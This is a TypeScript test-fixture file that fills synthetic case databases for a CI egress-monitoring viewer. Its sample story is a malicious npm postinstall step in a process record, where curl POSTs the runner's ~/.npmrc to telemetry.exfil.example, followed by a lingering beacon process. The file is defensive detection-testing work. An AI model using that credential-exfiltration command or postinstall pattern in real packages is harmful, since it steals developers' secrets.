/**
 * Builds real case files for the API, serve and e2e tests by writing rows straight into a new case (createCase +
 * migrate), the way the importer and analysis leave them. `makeStoryCase` is the sample story: during "Run npm ci"
 * a postinstall spawns curl POST to telemetry.exfil.example/v2/collect (outside the allow-list); a background node
 * process it left calls beacon.exfil.example during "Run npm test". `makeBigLogCase` holds N log lines.
 */
import { createCase, migrate, type Db } from '../../../electron/db/open';
import { parseRfc3339 } from '../../../shared/time';

const T = (hms: string) => parseRfc3339(`2026-10-14T${hms}Z`);
const JOB = 'test';

export const STORY = {
  repository: 'acme/web',
  workflow: 'CI',
  job: JOB,
  head_sha: '9f1c2e7a4b3d5c6e8f90a1b2c3d4e5f60718293a',
  findingCallId: 9,
  findingDomain: 'telemetry.exfil.example',
  beaconCallId: 11,
  curlProcessId: 8,
  calls: 12,
} as const;

interface Step {
  number: number;
  name: string;
  uses: string | null;
  start: string;
  end: string;
}
const STEPS: Step[] = [
  { number: 1, name: 'Set up job', uses: null, start: '09:12:03.100', end: '09:12:05.000' },
  {
    number: 2,
    name: 'Run actions/checkout@v4',
    uses: 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683',
    start: '09:12:05.000',
    end: '09:12:08.000',
  },
  {
    number: 3,
    name: 'Run actions/setup-node@v4',
    uses: 'actions/setup-node@v4',
    start: '09:12:08.000',
    end: '09:12:12.000',
  },
  { number: 4, name: 'Run npm ci', uses: null, start: '09:12:12.000', end: '09:12:40.000' },
  { number: 5, name: 'Run npm test', uses: null, start: '09:12:40.000', end: '09:13:30.000' },
  { number: 6, name: 'Post Run actions/checkout@v4', uses: null, start: '09:13:30.000', end: '09:13:50.000' },
  { number: 7, name: 'Complete job', uses: null, start: '09:13:50.000', end: '09:13:53.000' },
];

interface Proc {
  id: number;
  pid: number;
  ppid: number | null;
  parent: number | null;
  start: string;
  end: string | null;
  exe: string;
  args: string[];
  cwd: string;
  step: number | null;
  exit?: number;
}
const W = '/home/runner/work/app/app';
const PROCS: Proc[] = [
  {
    id: 1,
    pid: 1000,
    ppid: 990,
    parent: null,
    start: '09:12:03.200',
    end: null,
    exe: '/home/runner/actions-runner/bin/Runner.Worker',
    args: ['Runner.Worker', 'spawnclient', '108', '111'],
    cwd: '/home/runner/actions-runner',
    step: null,
  },
  {
    id: 2,
    pid: 1200,
    ppid: 1000,
    parent: 1,
    start: '09:12:05.100',
    end: '09:12:07.900',
    exe: '/home/runner/externals/node20/bin/node',
    args: ['node', '/home/runner/work/_actions/actions/checkout/v4/dist/index.js'],
    cwd: W,
    step: 2,
    exit: 0,
  },
  {
    id: 3,
    pid: 1201,
    ppid: 1200,
    parent: 2,
    start: '09:12:06.000',
    end: '09:12:07.000',
    exe: '/usr/bin/git',
    args: ['git', '-c', 'protocol.version=2', 'fetch', '--depth=1', 'origin'],
    cwd: W,
    step: 2,
    exit: 0,
  },
  {
    id: 4,
    pid: 1300,
    ppid: 1000,
    parent: 1,
    start: '09:12:08.100',
    end: '09:12:11.900',
    exe: '/home/runner/externals/node20/bin/node',
    args: ['node', '/home/runner/work/_actions/actions/setup-node/v4/dist/setup/index.js'],
    cwd: W,
    step: 3,
    exit: 0,
  },
  {
    id: 5,
    pid: 2100,
    ppid: 1000,
    parent: 1,
    start: '09:12:12.100',
    end: '09:12:39.800',
    exe: '/usr/bin/bash',
    args: ['bash', '-e', '/home/runner/work/_temp/4c1d.sh'],
    cwd: W,
    step: 4,
    exit: 0,
  },
  {
    id: 6,
    pid: 2101,
    ppid: 2100,
    parent: 5,
    start: '09:12:12.200',
    end: '09:12:39.700',
    exe: '/usr/local/bin/node',
    args: ['npm', 'ci'],
    cwd: W,
    step: 4,
    exit: 0,
  },
  {
    id: 7,
    pid: 2140,
    ppid: 2101,
    parent: 6,
    start: '09:12:30.900',
    end: '09:12:32.000',
    exe: '/usr/bin/sh',
    args: ['sh', '-c', 'node scripts/postinstall.js'],
    cwd: `${W}/node_modules/acme-telemetry`,
    step: 4,
    exit: 0,
  },
  {
    id: 8,
    pid: 2141,
    ppid: 2140,
    parent: 7,
    start: '09:12:31.200',
    end: '09:12:31.900',
    exe: '/usr/bin/curl',
    args: [
      'curl',
      '-sS',
      '-X',
      'POST',
      '--data-binary',
      '@/home/runner/.npmrc',
      'https://telemetry.exfil.example/v2/collect',
    ],
    cwd: `${W}/node_modules/acme-telemetry`,
    step: 4,
    exit: 0,
  },
  {
    id: 9,
    pid: 2150,
    ppid: 2140,
    parent: 7,
    start: '09:12:31.500',
    end: null,
    exe: '/usr/local/bin/node',
    args: ['node', '-e', 'setInterval(beacon, 30000)'],
    cwd: `${W}/node_modules/acme-telemetry`,
    step: 4,
  },
  {
    id: 10,
    pid: 2200,
    ppid: 1000,
    parent: 1,
    start: '09:12:40.100',
    end: '09:13:29.800',
    exe: '/usr/bin/bash',
    args: ['bash', '-e', '/home/runner/work/_temp/9e2f.sh'],
    cwd: W,
    step: 5,
    exit: 0,
  },
  {
    id: 11,
    pid: 2201,
    ppid: 2200,
    parent: 10,
    start: '09:12:40.200',
    end: '09:13:29.700',
    exe: '/usr/local/bin/node',
    args: ['npm', 'test'],
    cwd: W,
    step: 5,
    exit: 0,
  },
  {
    id: 12,
    pid: 2210,
    ppid: 2201,
    parent: 11,
    start: '09:12:41.000',
    end: '09:13:29.500',
    exe: '/usr/local/bin/node',
    args: ['node', '--test'],
    cwd: W,
    step: 5,
    exit: 0,
  },
  {
    id: 13,
    pid: 2300,
    ppid: 1000,
    parent: 1,
    start: '09:13:30.100',
    end: '09:13:49.000',
    exe: '/home/runner/externals/node20/bin/node',
    args: ['node', '/home/runner/work/_actions/actions/checkout/v4/dist/index.js'],
    cwd: W,
    step: 6,
    exit: 0,
  },
];

interface Call {
  id: number;
  ts: string;
  proc: number;
  domain: string;
  ip: string;
  method?: string;
  path?: string;
  status?: number;
  verdict: string;
  finding: number | null;
  step: number;
  running: number;
}
const CALLS: Call[] = [
  {
    id: 1,
    ts: '09:12:06.200',
    proc: 3,
    domain: 'github.com',
    ip: '140.82.112.3',
    verdict: 'allowed-by-policy',
    finding: null,
    step: 2,
    running: 2,
  },
  {
    id: 2,
    ts: '09:12:09.000',
    proc: 4,
    domain: 'api.github.com',
    ip: '140.82.112.6',
    method: 'GET',
    path: '/repos/actions/node-versions/contents',
    status: 200,
    verdict: 'allowed-by-policy',
    finding: null,
    step: 3,
    running: 3,
  },
  ...[0, 1, 2, 3, 4, 5].map((i): Call => ({
    id: 3 + i,
    ts: `09:12:1${3 + i}.${String(100 + i * 37).padStart(3, '0')}`,
    proc: 6,
    domain: 'packages.example.org',
    ip: '203.0.113.10',
    method: 'GET',
    path: `/pkg-${i}/-/pkg-${i}-1.${i}.0.tgz`,
    status: 200,
    verdict: 'allowed-by-policy',
    finding: null,
    step: 4,
    running: 4,
  })),
  {
    id: 9,
    ts: '09:12:31.500',
    proc: 8,
    domain: 'telemetry.exfil.example',
    ip: '198.51.100.23',
    method: 'POST',
    path: '/v2/collect',
    status: 202,
    verdict: 'outside-policy',
    finding: 1,
    step: 4,
    running: 4,
  },
  {
    id: 10,
    ts: '09:12:45.000',
    proc: 12,
    domain: 'api.github.com',
    ip: '140.82.112.6',
    method: 'GET',
    path: '/repos/acme/web',
    status: 200,
    verdict: 'allowed-by-policy',
    finding: null,
    step: 5,
    running: 5,
  },
  {
    id: 11,
    ts: '09:13:05.250',
    proc: 9,
    domain: 'beacon.exfil.example',
    ip: '203.0.113.77',
    method: 'POST',
    path: '/b',
    status: 200,
    verdict: 'outside-policy',
    finding: 2,
    step: 4,
    running: 5,
  },
  {
    id: 12,
    ts: '09:13:35.000',
    proc: 13,
    domain: 'github.com',
    ip: '140.82.112.3',
    verdict: 'allowed-by-policy',
    finding: null,
    step: 6,
    running: 6,
  },
];

/** Log lines per step: [time, text, marker]. Step 5 also gets `testLines` lines of test output. */
function stepLog(s: Step, testLines: number): [string, string, string | null][] {
  const L: [string, string, string | null][] = [];
  const at = (ms: number) => {
    const base = Number(T(s.start) / 1_000_000n) + ms;
    const d = new Date(base);
    return d.toISOString().slice(11, 23);
  };
  if (s.number === 1) {
    L.push([at(0), "Current runner version: '2.328.0'", null]);
    L.push(
      [at(10), '##[group]Operating System', 'group'],
      [at(11), 'Ubuntu', null],
      [at(12), '24.04.3', null],
      [at(13), 'LTS', null],
      [at(14), '##[endgroup]', 'endgroup'],
    );
    L.push(
      [at(20), '##[group]GITHUB_TOKEN Permissions', 'group'],
      [at(21), 'Contents: read', null],
      [at(22), 'Metadata: read', null],
      [at(23), '##[endgroup]', 'endgroup'],
    );
    L.push([
      at(400),
      "Download action repository 'actions/checkout@v4' (SHA:11bd71901bbe5b1630ceea73d27597364c9af683)",
      null,
    ]);
    L.push([at(900), 'Complete job name: test', null]);
    return L;
  }
  L.push([at(0), `##[group]Run ${s.uses ?? s.name.replace(/^Run /, '')}`, 'group']);
  if (s.number === 4) {
    L.push(
      [at(1), '\x1b[36;1mnpm ci\x1b[0m', null],
      [at(2), 'shell: /usr/bin/bash -e {0}', null],
      [at(3), '##[endgroup]', 'endgroup'],
    );
    for (let i = 0; i < 12; i++)
      L.push([
        at(1000 + i * 900),
        `npm http fetch GET 200 https://packages.example.org/pkg-${i % 6} ${40 + i}ms (cache miss)`,
        null,
      ]);
    L.push([
      at(11_000),
      '\x1b[33mnpm\x1b[0m \x1b[30;43mWARN\x1b[0m deprecated inflight@1.0.6: This module is not supported',
      null,
    ]);
    L.push(
      [at(18_900), '', null],
      [at(18_900), '> acme-telemetry@1.0.0 postinstall', null],
      [at(18_901), '> node scripts/postinstall.js', null],
    );
    L.push([at(19_500), 'collecting anonymous usage data for telemetry.exfil.example', null]);
    L.push([at(19_900), 'telemetry: sent', null]);
    L.push([at(27_000), 'added 312 packages, and audited 313 packages in 27s', null]);
    L.push([at(27_100), '\x1b[1m\x1b[31m1 high\x1b[0m severity vulnerability', null]);
    L.push([at(27_200), '##[warning]npm audit found 1 high severity vulnerability', 'warning']);
    return L;
  }
  if (s.number === 5) {
    L.push([at(1), '\x1b[36;1mnpm test\x1b[0m', null], [at(2), '##[endgroup]', 'endgroup']);
    L.push([at(200), '> web@1.0.0 test', null], [at(201), '> node --test', null]);
    const span = 48_000;
    for (let i = 0; i < testLines; i++) {
      const ok = i % 97 !== 13;
      L.push([
        at(1000 + Math.floor((i * span) / Math.max(1, testLines))),
        `${ok ? '\x1b[32mok\x1b[0m' : '\x1b[31mnot ok\x1b[0m'} ${i + 1} - suite ${Math.floor(i / 10)} case ${i % 10}${ok ? '' : ' # TODO flaky'}`,
        null,
      ]);
    }
    L.push([at(49_000), '##[error]1 test marked TODO failed (allowed to fail)', 'error']);
    L.push([at(49_500), `# tests ${testLines}`, null]);
    return L;
  }
  L.push([at(1), `with:`, null], [at(2), `  node-version: 20`, null], [at(3), '##[endgroup]', 'endgroup']);
  L.push([
    at(500),
    s.number === 2
      ? 'Syncing repository: acme/web'
      : s.number === 3
        ? 'Found in cache @ /opt/hostedtoolcache/node/20.19.5/x64'
        : 'Cleaning up orphan processes',
    null,
  ]);
  if (s.number === 6) L.push([at(900), 'Terminate orphan process: pid (2150) (node)', null]);
  return L;
}

function insertCommon(db: Db): void {
  const meta = db.prepare('INSERT INTO meta (key, value) VALUES (?, ?)');
  meta.run(
    'run',
    JSON.stringify({
      repository: STORY.repository,
      workflow: STORY.workflow,
      workflow_path: '.github/workflows/ci.yml',
      run_id: 18311492377,
      run_attempt: 1,
      job: JOB,
      job_id: 81853656807,
      head_sha: STORY.head_sha,
      ref: 'refs/heads/main',
      event: 'push',
      runner: { os: 'Linux', image: 'ubuntu-24.04', name: 'GitHub Actions 1000042' },
      started_at: '2026-10-14T09:12:03.100Z',
      completed_at: '2026-10-14T09:13:53.000Z',
    }),
  );
  meta.run(
    'policy',
    JSON.stringify({
      egress_policy: 'audit',
      allowed_endpoints: ['github.com:443', 'api.github.com:443', '*.example.org:443'],
      origin: 'manifest',
    }),
  );
}

/** The sample story as a case file at `path` (which must not exist). `testLines` pads "Run npm test" with output. */
export function makeStoryCase(path: string, opts: { testLines?: number } = {}): void {
  const db = createCase(path);
  try {
    db.transaction(() => {
      insertCommon(db);
      const src = db.prepare(
        'INSERT INTO sources (id, parent_id, path, member, format, sha256, bytes) VALUES (?, ?, ?, ?, ?, ?, ?)',
      );
      src.run(1, null, 'sample-bundle', null, null, 'a3'.repeat(32), 48213);
      src.run(2, 1, 'sample-bundle/network.jsonl', 'network.jsonl', 'bundle-network', 'b4'.repeat(32), 4100);
      src.run(3, 1, 'sample-bundle/processes.jsonl', 'processes.jsonl', 'bundle-processes', 'c5'.repeat(32), 5200);
      src.run(4, 1, 'sample-bundle/manifest.json', 'manifest.json', 'bundle-manifest', 'd6'.repeat(32), 2100);
      const step =
        db.prepare(`INSERT INTO steps (id, job, number, name, uses, started_at, completed_at, conclusion, origin, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, ?, ?, 'success', 'manifest', 4, ?, ?)`);
      for (const s of STEPS)
        step.run(
          s.number,
          JOB,
          s.number,
          s.name,
          s.uses,
          T(s.start),
          T(s.end),
          10 + s.number,
          JSON.stringify({ number: s.number, name: s.name }),
        );
      const proc =
        db.prepare(`INSERT INTO processes (id, pid, ppid, parent_id, start, end, exe, args, cwd, uid, exit_code, step_id, depth, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, 1001, ?, ?, ?, 3, ?, ?)`);
      const ev =
        db.prepare(`INSERT INTO process_events (ts, event, pid, ppid, exe, args, cwd, uid, exit_code, origin, process_id, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, ?, ?, 1001, ?, 'events', ?, 3, ?, ?)`);
      let line = 0;
      const depth = (p: Proc): number => (p.parent === null ? 0 : 1 + depth(PROCS[p.parent - 1]!));
      for (const p of PROCS) {
        const raw = JSON.stringify({
          ts: `2026-10-14T${p.start}Z`,
          event: 'exec',
          pid: p.pid,
          ppid: p.ppid,
          exe: p.exe,
          args: p.args,
          cwd: p.cwd,
          uid: 1001,
        });
        proc.run(
          p.id,
          p.pid,
          p.ppid,
          p.parent,
          T(p.start),
          p.end ? T(p.end) : null,
          p.exe,
          JSON.stringify(p.args),
          p.cwd,
          p.exit ?? null,
          p.step,
          depth(p),
          ++line,
          raw,
        );
        ev.run(T(p.start), 'exec', p.pid, p.ppid, p.exe, JSON.stringify(p.args), p.cwd, null, p.id, line, raw);
        if (p.end)
          ev.run(
            T(p.end),
            'exit',
            p.pid,
            null,
            null,
            null,
            null,
            p.exit ?? 0,
            p.id,
            ++line,
            JSON.stringify({ ts: `2026-10-14T${p.end}Z`, event: 'exit', pid: p.pid, exit_code: p.exit ?? 0 }),
          );
      }
      const finding = db.prepare(
        `INSERT INTO findings (id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (?, 'anomalous-endpoint', '["anomalous-endpoint"]', 'high', 'viewer', ?, ?, 1, ?, ?)`,
      );
      finding.run(
        1,
        'telemetry.exfil.example:443',
        'Call to telemetry.exfil.example:443, outside allowed_endpoints',
        T('09:12:31.500'),
        T('09:12:31.500'),
      );
      finding.run(
        2,
        'beacon.exfil.example:443',
        'Call to beacon.exfil.example:443, outside allowed_endpoints',
        T('09:13:05.250'),
        T('09:13:05.250'),
      );
      const net =
        db.prepare(`INSERT INTO network (id, ts, pid, process_id, domain, domain_origin, ip, port, protocol, status, http_method, http_host, http_path, http_status,
          endpoint, verdict, finding_id, step_id, running_step_id, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, 'record', ?, 443, 'tcp', 'allowed', ?, ?, ?, ?, ?, ?, ?, ?, ?, 2, ?, ?)`);
      for (const c of CALLS) {
        const p = PROCS[c.proc - 1]!;
        const http = c.method ? { method: c.method, host: c.domain, path: c.path, status_code: c.status } : undefined;
        const raw = JSON.stringify({
          ts: `2026-10-14T${c.ts}000000Z`,
          pid: p.pid,
          domain: c.domain,
          ip: c.ip,
          port: 443,
          protocol: 'tcp',
          status: 'allowed',
          ...(http ? { http } : {}),
        });
        net.run(
          c.id,
          T(c.ts),
          p.pid,
          p.id,
          c.domain,
          c.ip,
          c.method ?? null,
          c.method ? c.domain : null,
          c.path ?? null,
          c.status ?? null,
          `${c.domain}:443`,
          c.verdict,
          c.finding,
          c.step,
          c.running,
          c.id,
          raw,
        );
      }
      const logSrc = db.prepare(
        "INSERT INTO sources (id, parent_id, path, member, format, sha256, bytes) VALUES (?, 1, ?, ?, 'gha-log', ?, ?)",
      );
      const log =
        db.prepare(`INSERT INTO log_lines (job, step_id, step_number, seq, ts, raw, text, marker, depth, file_kind, source_id, line, line_end)
        VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, 'step', ?, ?, ?)`);
      for (const s of STEPS) {
        const member = `logs/${JOB}/${s.number}_${s.name}.txt`;
        const lines = stepLog(s, opts.testLines ?? 240);
        logSrc.run(10 + s.number, `sample-bundle/${member}`, member, 'e7'.repeat(32), lines.length * 60);
        let d = 0;
        lines.forEach(([hms, text, marker], i) => {
          if (marker === 'endgroup') d = Math.max(0, d - 1);
          const plain = text.replace(/\x1b\[[0-9;]*m/g, '');
          log.run(JOB, s.number, s.number, i, T(hms), text, plain, marker, d, 10 + s.number, i + 1, i + 1);
          if (marker === 'group') d++;
        });
      }
      db.exec(`INSERT INTO log_fts(log_fts) VALUES ('rebuild')`);
    })();
    migrate(db);
  } finally {
    db.close();
  }
}

/** A case with `lines` log lines (one step per 100 000, a group every 1000 lines) and a few calls: for scale tests. */
export function makeBigLogCase(path: string, lines: number): void {
  const db = createCase(path);
  try {
    db.transaction(() => {
      insertCommon(db);
      const start = T('09:12:03.100');
      const steps = Math.max(1, Math.ceil(lines / 100_000));
      const step = db.prepare(
        `INSERT INTO steps (id, job, number, name, uses, started_at, completed_at, conclusion, origin) VALUES (?, ?, ?, ?, NULL, ?, ?, 'success', 'files')`,
      );
      for (let i = 1; i <= steps; i++)
        step.run(
          i,
          JOB,
          i,
          `Run stage ${i}`,
          start + BigInt((i - 1) * 100_000) * 1_000_000n,
          start + BigInt(i * 100_000) * 1_000_000n,
        );
      // One millisecond per line; generated in SQL so a million rows take seconds.
      db.prepare(
        `WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i + 1 < ?)
        INSERT INTO log_lines (id, job, step_id, step_number, seq, ts, raw, text, marker, depth, file_kind, line)
        SELECT i + 1, '${JOB}', i / 100000 + 1, i / 100000 + 1, i % 100000, ? + i * 1000000,
          CASE WHEN i % 1000 = 0 THEN '##[group]Batch ' || (i / 1000) WHEN i % 1000 = 999 THEN '##[endgroup]' ELSE 'line ' || i || ' of the big log' END,
          CASE WHEN i % 1000 = 0 THEN '##[group]Batch ' || (i / 1000) WHEN i % 1000 = 999 THEN '##[endgroup]' ELSE 'line ' || i || ' of the big log' END,
          CASE WHEN i % 1000 = 0 THEN 'group' WHEN i % 1000 = 999 THEN 'endgroup' ELSE NULL END,
          CASE WHEN i % 1000 IN (0, 999) THEN 0 ELSE 1 END, 'step', i % 100000 + 1 FROM n`,
      ).run(lines, start);
      const net = db.prepare(
        `INSERT INTO network (id, ts, pid, domain, ip, port, endpoint, verdict, step_id, running_step_id, raw) VALUES (?, ?, 4000, 'github.com', '140.82.112.3', 443, 'github.com:443', 'allowed-by-policy', 1, 1, '{}')`,
      );
      for (let i = 1; i <= 50; i++) net.run(i, start + BigInt(i) * 1_000_000_000n);
    })();
    migrate(db);
  } finally {
    db.close();
  }
}
